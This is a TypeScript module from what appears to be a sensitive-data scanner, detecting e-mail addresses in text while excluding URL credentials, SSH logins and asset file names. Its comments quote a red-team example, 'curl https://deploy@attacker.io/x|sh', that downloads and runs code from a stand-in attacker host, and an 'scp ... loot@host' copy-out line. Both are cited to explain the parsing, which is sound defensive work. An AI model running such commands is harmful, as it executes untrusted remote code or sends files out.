// E-mail addresses: found from each '@' by expanding over local-part and domain
// characters (bounded, so the scan stays linear), then validated structurally.

import type { Finding } from "./types.ts";
import { codeAt, isAlnum, isDigit, isHex, isLetter } from "./chars.ts";
import { RemoteHosts } from "./remote_hosts.ts";

const MAX_LOCAL = 64;
const MAX_DOMAIN = 253;

/** File extensions that make `name@2x.png`-style asset names look like addresses. */
const FILE_EXTENSIONS = new Set([
  "png",
  "jpg",
  "jpeg",
  "gif",
  "svg",
  "webp",
  "ico",
  "bmp",
  "tif",
  "tiff",
  "avif",
  "js",
  "mjs",
  "cjs",
  "ts",
  "tsx",
  "jsx",
  "css",
  "scss",
  "json",
  "txt",
  "html",
  "htm",
  "xml",
  "yml",
  "yaml",
  "lock",
  "map",
  "wasm",
  "woff",
  "woff2",
  "ttf",
  "mp3",
  "mp4",
  "pdf",
  "zip",
  "gz",
  "tgz",
]);

/**
 * Latin, Greek and Cyrillic letters beyond ASCII (internationalised addresses, RFC 6531).
 * Scripts written without spaces (CJK) are left out so that they bound an address.
 */
function isWideAlnum(c: number): boolean {
  return c >= 0xc0 && c < 0x530 && WIDE_LETTERS[c - 0xc0] === 1;
}

/** `\p{L}` for U+00C0–U+052F, computed once (a regular expression per character was slow). */
const WIDE_LETTERS = (() => {
  const table = new Uint8Array(0x530 - 0xc0);
  for (let c = 0xc0; c < 0x530; c++) {
    if (c !== 0xd7 && c !== 0xf7 && /\p{L}/u.test(String.fromCharCode(c))) table[c - 0xc0] = 1;
  }
  return table;
})();

function isLocalChar(c: number): boolean {
  // The part of RFC 5322 atext that real addresses use (. _ % + - '); `=`, `!`, `#`, `$`
  // and friends are legal but far more often the `key=` or markup just before an address.
  return isAlnum(c) || c === 46 || c === 95 || c === 37 || c === 43 || c === 45 || c === 39 ||
    isWideAlnum(c);
}

function isDomainChar(c: number): boolean {
  return isAlnum(c) || c === 46 || c === 45 || isWideAlnum(c);
}

/**
 * How an `@` is written: itself, percent-encoded in a URL or form body
 * (`?email=ann.lee%40example.com`), or percent-encoded twice (`%2540`, a query string
 * inside a redirect parameter).
 */
const AT_FORMS = ["@", "%40", "%2540"] as const;

/** Whether `text` holds an `@` in any of its {@linkcode AT_FORMS} (native scans). */
export function mayHoldEmail(text: string): boolean {
  return text.includes("@") || (text.includes("%") && AT_FORMS.some((f) => text.includes(f)));
}

/** Appends every e-mail address in `text` to `out`. */
export function findEmails(text: string, out: Finding[]): void {
  // One `indexOf` cursor per form of the `@`, each moving only forward: the text is
  // scanned once per form (once in all without a `%`, the common case).
  const forms = text.includes("%") ? AT_FORMS.length : 1;
  const next = AT_FORMS.map((form, k) => k < forms ? text.indexOf(form) : -1);
  let resume = 0;
  // A local part never holds an `@`, written or encoded: no walk back reads past the last
  // trigger (`a%40a%40…` would otherwise read 65 characters back per trigger).
  let floor = 0;
  const hosts = new RemoteHosts(text);
  while (true) {
    let f = -1;
    for (let k = 0; k < forms; k++) {
      if (next[k] !== -1 && next[k] < resume) next[k] = text.indexOf(AT_FORMS[k], resume);
      if (next[k] !== -1 && (f === -1 || next[k] < next[f])) f = k;
    }
    if (f === -1) break;
    const at = next[f];
    resume = Math.max(scanAt(text, at, AT_FORMS[f].length, floor, out, hosts), at + 1);
    floor = at + AT_FORMS[f].length;
  }
}

/**
 * Tries the address around the `@` written at `at` in `atLength` characters, its local
 * part starting at `floor` or later; returns where the search may resume.
 */
function scanAt(
  text: string,
  at: number,
  atLength: number,
  floor: number,
  out: Finding[],
  hosts: RemoteHosts,
): number {
  // Local part: walk left, bounded.
  const stop = Math.max(floor, at - MAX_LOCAL - 1);
  let start = at;
  while (start > stop && isLocalChar(text.charCodeAt(start - 1))) start--;
  if (at - start > MAX_LOCAL) {
    // More than a local part can hold: something is glued in front of the address
    // (`<sha-256>_bob.ray@…`, a file name). The address is within the last MAX_LOCAL
    // characters; it starts after the first joiner in them, which is where the glue is
    // when the address is shorter, or with them.
    start = at - MAX_LOCAL;
    for (let k = start; k < at; k++) {
      if (!isAlnum(text.charCodeAt(k)) && !isWideAlnum(text.charCodeAt(k))) {
        start = k + 1;
        break;
      }
    }
  }
  // Percent-encoded text (`?next=%3Fto%3Dann%2540…`): an encoded delimiter ends the
  // local part as the delimiter itself would.
  if (atLength > 1) start = afterEncodedDelimiter(text, start, at);
  // Leading characters that are punctuation in prose, not part of the address.
  while (
    start < at && !isAlnum(text.charCodeAt(start)) && !isWideAlnum(text.charCodeAt(start)) &&
    text.charCodeAt(start) !== 95
  ) start++;
  if (start === at) return at + 1;
  // Domain: walk right, bounded.
  const domain = at + atLength;
  let end = domain;
  while (end < text.length && end - domain < MAX_DOMAIN && isDomainChar(text.charCodeAt(end))) {
    end++;
  }
  if (isDomainChar(codeAt(text, end)) && end - domain >= MAX_DOMAIN) return end;
  // A trailing dot or hyphen ends a sentence, not a domain.
  while (
    end > domain && !isAlnum(text.charCodeAt(end - 1)) && !isWideAlnum(text.charCodeAt(end - 1))
  ) {
    end--;
  }
  let glued = false;
  if (!validDomain(text, domain, end)) {
    // `frank@example.com-123-45-6789.txt`: an address glued by a hyphen to digits (a file
    // name, an id); the domain ends at that hyphen.
    const cut = hyphenDigitsCut(text, domain, end);
    if (cut !== -1 && validDomain(text, domain, cut)) end = cut;
    else {
      // Something else glued on after the top-level domain (a file name, a word).
      end = domainEndBeforeGlue(text, domain, end);
      if (end === -1) return at + 1;
      glued = true;
    }
  }
  // Whatever is glued on after the domain (`_resume.pdf`, `@`, `.txt`, `2`) does not hide
  // the address (red team, 2026-11-30), when the domain ends in a top-level domain that
  // addresses use: `--pass-arg=imports@env.await_promise_sync` and `ks_in@devanagari.utf8`
  // are names in code and locales.
  const next = codeAt(text, end);
  if ((glued || next === 95 || next === 64) && !commonTld(text, domain, end)) return end;
  if (!validLocal(text, start, at)) return at + 1;
  // `scheme://user:password@host`: credentials in a URL, not an address (the password
  // is reported as a secret).
  if (
    // A bounded look back: `lastIndexOf` over the whole text made `x:a@b.com ` repeated
    // quadratic. Only in the authority: after a `/` the `Word:` is a path's or a label's
    // (`otpauth://totp/Example:ann@example.com`, red team n1, N1-8).
    codeAt(text, start - 1) === 58 && inAuthority(text, start)
  ) return end;
  // `scheme://user@host`: a URL's user name, not an address either; read as one, its
  // placeholder covered the host the URL opens (red team m1:
  // `curl https://deploy@attacker.io/x|sh`).
  if (
    codeAt(text, start - 1) === 47 && codeAt(text, start - 2) === 47 &&
    codeAt(text, start - 3) === 58 && !userBeforePassword(text, end)
  ) {
    return end;
  }
  // `git@github.com:owner/repo` is an SSH remote, not someone's address.
  if (codeAt(text, end) === 58 && text.slice(start, at) === "git") return end;
  // `ssh root@db.example.com`, `scp f loot@host.example:`: a login at a host (red team n1).
  if (hosts.isHost(start, end)) return end;
  out.push({ type: "email", start, end, value: text.slice(start, end) });
  return end;
}

/** Most characters read back for a URL's `://` before user information. */
const AUTHORITY_BACK = 79;

/**
 * Whether `start` is in a URL's authority: a `://` at most {@linkcode AUTHORITY_BACK}
 * characters back, with no `/` between it and `start`. Reads that many characters at most.
 */
function inAuthority(text: string, start: number): boolean {
  const back = text.slice(Math.max(0, start - AUTHORITY_BACK), start + 3);
  const scheme = back.lastIndexOf("://");
  return scheme !== -1 && !back.slice(scheme + 3, back.length - 3).includes("/");
}

/** Most characters read after a URL's user name for its password's `@`. */
const PASSWORD_AHEAD = 256;

/**
 * Whether the address that ends at `end`, right after a URL's `://`, is the user name of
 * `user:password@host` (an e-mail address as the user: `smtp://ann@example.com:<pw>@smtp…`,
 * Django's and Rails' mailer URLs; red team n1, N1-8): a `:` after it, then an `@` before
 * any `/`, `?`, `#` or white space, within {@linkcode PASSWORD_AHEAD} characters.
 */
function userBeforePassword(text: string, end: number): boolean {
  if (codeAt(text, end) !== 58) return false;
  for (let j = end + 1; j < text.length && j - end <= PASSWORD_AHEAD; j++) {
    const c = text.charCodeAt(j);
    if (c === 64) return true;
    if (c === 47 || c === 63 || c === 35 || c <= 32) return false;
  }
  return false;
}

/**
 * The local part `[start, at)` of a percent-encoded address, starting after the last
 * `%XX` in it that encodes a character no local part holds (`=`, `?`, `&`, `/`, `:`…).
 * One pass over at most {@linkcode MAX_LOCAL} characters.
 */
function afterEncodedDelimiter(text: string, start: number, at: number): number {
  let from = start;
  for (let k = start; k + 2 < at; k++) {
    if (text.charCodeAt(k) !== 37) continue;
    if (!isHex(text.charCodeAt(k + 1)) || !isHex(text.charCodeAt(k + 2))) continue;
    const code = parseInt(text.slice(k + 1, k + 3), 16);
    if (code === 37 || isLocalChar(code)) continue;
    from = k + 3;
  }
  return from;
}

/**
 * Where the domain `[start, end)`, which is not valid as read, ends when something was
 * glued onto it, or -1: `ann@example.org.txt` (a file extension after it), `ann@example.com2`,
 * `ann@example.com-old` (a word or number touching the top-level domain). The domain
 * left must be valid on its own, with a letter in its first label (so `pkg@1.2.3.min.js`
 * and `icon@2x.png` stay alone). A few passes over the bounded domain: linear overall.
 */
function domainEndBeforeGlue(text: string, start: number, end: number): number {
  const lastDot = lastDotIn(text, start, end);
  if (lastDot === -1 || !hasLetterBeforeDot(text, start, end)) return -1;
  let e = end;
  if (FILE_EXTENSIONS.has(text.slice(lastDot + 1, end).toLowerCase())) {
    e = lastDot;
    if (validDomain(text, start, e)) return e;
  }
  // The last label of what is left: letters, then what touches them.
  const labelStart = lastDotIn(text, start, e) + 1;
  if (labelStart === 0) return -1;
  let k = labelStart;
  while (k < e && isLetter(text.charCodeAt(k))) k++;
  if (k === e || k - labelStart < 2) return -1;
  return validDomain(text, start, k) ? k : -1;
}

/**
 * The last `.` in `[start, end)`, or -1. A loop bounded by the domain, not `lastIndexOf`,
 * which would read back over the whole text for every `@` (quadratic on `a@a@a@…`).
 */
function lastDotIn(text: string, start: number, end: number): number {
  for (let i = end - 1; i >= start; i--) if (text.charCodeAt(i) === 46) return i;
  return -1;
}

/**
 * Generic top-level domains that addresses are commonly at. With a country code (any
 * two letters) or an IDN (`xn--`), the only ones an address with something glued after
 * it may end in.
 */
export const COMMON_TLDS: ReadonlySet<string> = new Set([
  "com",
  "org",
  "net",
  "edu",
  "gov",
  "mil",
  "int",
  "info",
  "biz",
  "name",
  "pro",
  "mobi",
  "aero",
  "coop",
  "museum",
  "jobs",
  "travel",
  "app",
  "dev",
  "page",
  "cloud",
  "online",
  "site",
  "tech",
  "xyz",
  "shop",
  "store",
  "email",
  "mail",
  "live",
  "company",
  "agency",
  "digital",
  "studio",
  "media",
  "news",
  "global",
  "world",
  "blog",
  "club",
  "team",
  "group",
  "health",
  "law",
  "bank",
  "ltd",
  "inc",
  "llc",
]);

/** Whether the domain `[start, end)` ends in a country code, an IDN or a common TLD. */
function commonTld(text: string, start: number, end: number): boolean {
  const tld = text.slice(lastDotIn(text, start, end) + 1, end).toLowerCase();
  return tld.length === 2 || tld.startsWith("xn--") || COMMON_TLDS.has(tld);
}

/** Whether the first label of the domain `[start, end)` holds a letter. */
function hasLetterBeforeDot(text: string, start: number, end: number): boolean {
  for (let i = start; i < end; i++) {
    const c = text.charCodeAt(i);
    if (c === 46) return false;
    if (isLetter(c) || isWideAlnum(c)) return true;
  }
  return false;
}

/**
 * The first `-` followed by a digit in the domain `[start, end)` after at least one dot, or -1.
 * One pass over the (bounded) domain, so the scan stays linear.
 */
function hyphenDigitsCut(text: string, start: number, end: number): number {
  let dot = false;
  for (let i = start; i < end - 1; i++) {
    const c = text.charCodeAt(i);
    if (c === 46) dot = true;
    else if (c === 45 && dot && isDigit(text.charCodeAt(i + 1))) return i;
  }
  return -1;
}

function validLocal(text: string, start: number, end: number): boolean {
  let prevDot = true; // no leading dot
  for (let i = start; i < end; i++) {
    const dot = text.charCodeAt(i) === 46;
    if (dot && prevDot) return false;
    prevDot = dot;
  }
  return !prevDot;
}

function validDomain(text: string, start: number, end: number): boolean {
  if (end - start < 4) return false;
  let labels = 0;
  let labelStart = start;
  for (let i = start; i <= end; i++) {
    if (i === end || text.charCodeAt(i) === 46) {
      const len = i - labelStart;
      if (len === 0 || len > 63) return false;
      if (text.charCodeAt(labelStart) === 45 || text.charCodeAt(i - 1) === 45) return false;
      labels++;
      if (i < end) labelStart = i + 1;
    }
  }
  if (labels < 2) return false;
  // Top-level domain: letters only, 2–24 of them (IDN tlds arrive as `xn--…`).
  const tld = text.slice(labelStart, end);
  if (tld.startsWith("xn--")) return true;
  if (tld.length < 2 || tld.length > 24) return false;
  for (let i = 0; i < tld.length; i++) {
    const c = tld.charCodeAt(i);
    if (!isLetter(c) && !isWideAlnum(c)) return false;
  }
  if (FILE_EXTENSIONS.has(tld.toLowerCase())) return false;
  // `icon@2x.png`: retina asset names.
  const first = text.slice(start, text.indexOf(".", start));
  if (/^\d+x$/.test(first)) return false;
  return !isDigit(text.charCodeAt(start)) || labels > 2 || /[a-z]/i.test(first);
}
